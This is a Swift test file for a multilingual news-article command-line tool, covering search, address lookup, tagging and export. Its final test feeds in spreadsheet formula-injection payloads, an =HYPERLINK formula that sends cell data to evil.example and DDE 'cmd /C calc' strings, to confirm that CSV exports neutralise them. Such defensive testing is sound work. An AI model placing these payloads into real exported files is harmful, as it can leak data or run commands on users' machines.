// SPDX-License-Identifier: Apache-2.0

import Foundation
import Testing

/// Searches, lists and exports of articles in several languages, with the real program.
@Suite struct SearchCommandTests {
    private static func line(
        _ title: String, _ language: String, _ text: String, source: String, url: String? = nil,
        published: String? = "2026-11-20T07:00:00Z", id: String? = nil
    ) -> String {
        let members: [String: Any?] = [
            "title": title, "language": language, "text": text, "source": source, "url": url, "published": published,
            "id": id,
        ]
        let json = try? JSONSerialization.data(withJSONObject: members.compactMapValues { $0 })  // Only strings.
        return String(decoding: json ?? Data(), as: UTF8.self)
    }

    private static let articles = [
        line(
            "La passerelle de Brumes-sur-Lys rouvre", "fr",
            "La passerelle de Brumes-sur-Lys, fermée depuis trois ans, rouvre samedi aux piétons. L’architecte Solène "
                + "Vautrin a dirigé les travaux, qui ont coûté 12 500 euros de moins que prévu.",
            source: "La Dépêche de la Lys", url: "https://www.depeche-lys.example/passerelle?utm_source=mail#haut"),
        line(
            "Harbour of Valdrey closed after storm", "en",
            "The harbour master of Valdrey, Orla Finnegan, closed the port on Monday. Ferries to the islands wait for "
                + "calmer seas, and 300 passengers spent the night in the school.",
            source: "The Valdrey Packet", url: "https://packet.example/2026/storm", published: "2026-11-23T18:30:00Z"),
        line(
            "Neue Brücke über die Elm", "de",
            "Die neue Fußgängerbrücke über die Elm wird am Freitag eröffnet. Bürgermeisterin Käthe Grübner lobte die "
                + "Arbeit der Ingenieure und die großzügige Spende der Sparkasse.",
            source: "Elmtaler Bote", published: "2026-11-21"),
        line(
            "도서관이 다시 문을 열다", "ko",
            "하늘시립도서관이 화요일에 다시 문을 열었다. 관장 박서린은 도서관에서 열리는 전시회에 많은 시민이 찾아오기를 바란다고 말했다.",
            source: "하늘일보", published: nil),
        line(
            "افتتاح مكتبة جديدة في المدينة", "ar",
            "افتتحت رئيسة البلدية ليلى الحداد مكتبة جديدة في وسط المدينة، وقالت إن المكتبة ستفتح أبوابها كل يوم.",
            source: "صحيفة الميناء", published: "2026-11-22T09:00:00Z"),
    ]

    /// A spool with these articles, and a second copy of the first.
    private func spool() throws -> TestSpool {
        let spool = try TestSpool()
        let copy = Self.articles[0].replacing("La D\u{E9}p\u{EA}che de la Lys", with: "L\u{2019}\u{C9}cho du Val")
            .replacing("depeche-lys", with: "echo-val")
        try spool.write((Self.articles + [copy]).joined(separator: "\n"), to: "files/all.jsonl")
        let taken = try spool.copytaster("ingest", "--json", spool.root.appending(path: "files/all.jsonl").path)
        try #require(taken.status == 0 && taken.objects.count == 6, "\(taken.errors)")
        return spool
    }

    private func titles(_ output: TestSpool.Output) -> [String] { output.objects.compactMap { $0["title"] as? String } }

    @Test(arguments: [
        (["passerelle"], "La passerelle"), (["Brumes-sur-Lys", "travaux"], "La passerelle"),
        (["12500"], "La passerelle"), (["solene", "vautrin"], "La passerelle"), (["ferry"], "Harbour"),
        (["harbor OR harbour"], "Harbour"), (["bruecke"], "Neue"), (["BRÜCKE", "-harbour"], "Neue"),
        (["도서관"], "도서관"), (["المكتبة"], "افتتاح"), ([#"source:"elmtaler bote""#], "Neue"),
        (["url:packet.example/2026/storm"], "Harbour"), (["lang:ko"], "도서관"), (["title:storm", "-lang:fr"], "Harbour"),
    ])
    func `an article is found as people type`(query: [String], beginning: String) throws {
        let output = try spool().run(["search", "--json"] + query)
        #expect(titles(output).first?.hasPrefix(beginning) == true, "\(output.text) \(output.errors)")
        #expect(output.objects.count == 1, "\(titles(output))")
    }

    @Test func `an article is shown by its address, however that is written`() throws {
        let spool = try spool()
        for address in ["https://packet.example/2026/storm", "http://www.packet.example/2026/storm/?fbclid=x#top"] {
            let shown = try spool.copytaster("show", "--json", address)
            #expect(shown.status == 0 && titles(shown) == ["Harbour of Valdrey closed after storm"], "\(shown.errors)")
        }
        #expect(try spool.copytaster("copies", "--json", "depeche-lys.example/passerelle").objects.count == 2)
        #expect(try spool.copytaster("trace", "--json", "https://packet.example/2026/storm").status == 0)
        let unknown = try spool.copytaster("show", "https://packet.example/other")
        #expect(unknown.status == 1 && unknown.errors.contains("no article has the address"), "\(unknown.errors)")
    }

    @Test func `an undated article is shown with its arrival, and a day without an hour as a day`() throws {
        let spool = try spool()
        let korean = try spool.copytaster("search", "도서관").text
        #expect(korean.contains("arrived 20"), "\(korean)")
        let german = try spool.copytaster("search", "Elm").text
        #expect(german.contains("2026-11-21 ·") && !german.contains("00:00"), "\(german)")
        let sheet = try spool.copytaster("search", "--spreadsheet", "--columns", "published,title", "Elm").text
        #expect(sheet.hasSuffix("2026-11-21,Neue Brücke über die Elm\r\n"), "\(sheet)")
    }

    @Test func `what came in since the last time is shown, also to a user who may only read`() throws {
        let spool = try spool()
        let state = ["XDG_STATE_HOME": spool.root.appending(path: "state").path]
        let first = try spool.run(["search", "--json", "--new", "bridges", "passerelle OR brücke"], environment: state)
        #expect(first.objects.count == 2, "\(first.errors)")
        let again = try spool.run(["search", "--new", "bridges"], environment: state)
        #expect(again.status == 0 && again.text.isEmpty && again.errors.contains("nothing new"), "\(again.errors)")
        let line = Self.line(
            "Fermeture de la passerelle", "fr", "La passerelle des Cordiers ferme lundi pour une semaine de contrôles.",
            source: "La Dépêche de la Lys")
        try spool.write(line, to: "files/new.jsonl")
        try spool.copytaster("ingest", spool.root.appending(path: "files/new.jsonl").path)
        // A pipe that is closed early leaves it new.
        let program = TestSpool.programs.appending(path: "copytaster").path
        try spool.bash(
            """
            export XDG_STATE_HOME='\(state["XDG_STATE_HOME"] ?? "")'
            ! '\(program)' search --new bridges --directory '\(spool.root.path)' >/dev/full 2>/dev/null
            """)
        let new = try spool.run(["search", "--json", "--new", "bridges"], environment: state)
        #expect(titles(new) == ["Fermeture de la passerelle"], "\(new.errors)")
        let last = try spool.run(["search", "--new", "bridges"], environment: state)
        #expect(last.status == 0 && last.text.isEmpty, "\(last.errors)")
    }

    @Test func `tags survive a refold, and belong to the family with later copies`() throws {
        let spool = try spool()
        let id = try #require(try spool.copytaster("search", "--json", "passerelle").objects.first?["id"] as? String)
        #expect(try spool.copytaster("tag", "--family", id, "Ponts").status == 0)
        #expect(try spool.copytaster("note", id, "à vérifier lundi").status == 0)
        #expect(try spool.copytaster("refold", "--all").status == 0)
        #expect(try spool.copytaster("search", "--all", "--json", "tag:ponts").objects.count == 2)
        #expect(try spool.copytaster("search", "--all", "--json", "note:verifier").objects.count == 1)
        #expect(try spool.copytaster("show", id).text.contains("Ponts"))
        try spool.expectSound()
    }

    // MARK: Export and ingest

    @Test func `an export with texts gives the same articles and families elsewhere`() throws {
        let (spool, other) = (try spool(), try TestSpool())
        try spool.write(Copy.page, to: "inbox/depeche/pont.html")
        try spool.write(Copy.text, to: "inbox/l'écho/pont.txt")
        try spool.write("Photo : Odile Marchetti\n\n" + Copy.article(7), to: "inbox/sans-source.txt")
        try spool.write(
            Self.line(
                "Le pont & le <fleuve>", "fr", "Le pont & le <fleuve>\n\n" + Copy.paragraphs.joined(separator: "\n\n"),
                source: "https://www.brumes.example/", id: "0123456789abcdef0123456789abcdef"),
            to: "inbox/odd.jsonl")
        for (number, text) in Copy.different(10).enumerated() { try spool.write(text, to: "inbox/\(number).txt") }
        #expect(try spool.daemon("--once").ended() == 0)
        let place = spool.root.appending(path: "files/export.jsonl").path
        #expect(try spool.copytaster("export", "--text", "--output", place).status == 0)

        // Below a directory that would name the source of articles without one.
        try other.write(try Data(contentsOf: URL(filePath: place)), to: "inbox/elsewhere/export.jsonl")
        #expect(try other.daemon("--once").ended() == 0)
        let (before, after) = (try spool.export(), try other.export())
        #expect(before.count == 20 && Set(before.keys) == Set(after.keys))
        for (id, article) in before { #expect(after[id] == article, "\(id)") }

        // In the other direction everything is known.
        let back = other.root.appending(path: "back.jsonl").path
        #expect(try other.copytaster("export", "--text", "--output", back).status == 0)
        let known = try spool.copytaster("ingest", "--json", back).objects.compactMap { $0["outcome"] as? String }
        #expect(known == Array(repeating: "known", count: 20))
    }

    @Test func `a spreadsheet runs nothing of what an article contains`() throws {
        let spool = try TestSpool()
        let evil = [
            Self.line("=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")", "en", Copy.article(1), source: "+33 Press"),
            Self.line("-5 degrees in Valdrey", "en", Copy.article(2), source: "＝cmd|' /C calc'!A0"),
            Self.line("Prices;=2+5+cmd|' /C calc'!A0", "en", Copy.article(3), source: "@SUM(1)"),
        ]
        try spool.write(evil.joined(separator: "\n"), to: "files/evil.jsonl")
        try spool.copytaster("ingest", spool.root.appending(path: "files/evil.jsonl").path)
        let outputs = [
            try spool.copytaster("export", "--spreadsheet", "--text"),
            try spool.copytaster("search", "--format", "csv", "--all", "lang:en"),
            try spool.copytaster("sources", "--format", "csv"), try spool.copytaster("families", "--format", "csv"),
            try spool.copytaster("count", "--by", "source", "--format", "csv", "--separator", "semicolon"),
        ]
        for output in outputs {
            #expect(output.status == 0 && output.text.contains("\r\n"), "\(output.errors)")
            for separator: Character in [",", ";", "\t"] {
                let cells = output.text.replacing("\r\n", with: "\n").split { $0 == separator || $0 == "\n" }
                for cell in cells {
                    let first = cell.first { !" \"".contains($0) }
                    #expect(first.map { !"=+-@＝".contains($0) } ?? true, "\(cell)")
                }
            }
        }
    }
}
